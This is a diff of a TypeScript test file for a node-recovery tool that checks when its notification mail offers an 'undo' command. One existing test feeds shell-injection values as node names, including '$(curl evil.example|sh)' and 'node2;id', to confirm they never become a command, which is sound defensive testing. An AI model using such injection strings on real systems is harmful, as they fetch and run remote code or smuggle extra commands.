@@ -90,6 +90,16 @@ account 111122223333, eu-west-1 · NOW · incident 7f3a0c1d, disk:data, 1`);
     expect(mail).toContain('\nundo     npm run chainmend -- undo bitcoin/node2\n');
   });
 
+  it('offers no undo once more to whoever was refused one for good', async () => {
+    for (const [code, offers] of [
+      ['nothing-to-undo', false],
+      ['replacements-spent', true],
+    ] as const) {
+      const { default: mail = '' } = copies(await published({ ...CONTENT, code, trigger: 'request:undo' }));
+      expect(mail.includes('chainmend -- undo')).toBe(offers);
+    }
+  });
+
   it.each(['fleet', '3 nodes', 'node 2', '$(curl evil.example|sh)', 'node2;id'])(
     'says no command to undo what is done to %s: that is no word for one node, or no word for a shell',
     async (node) => {
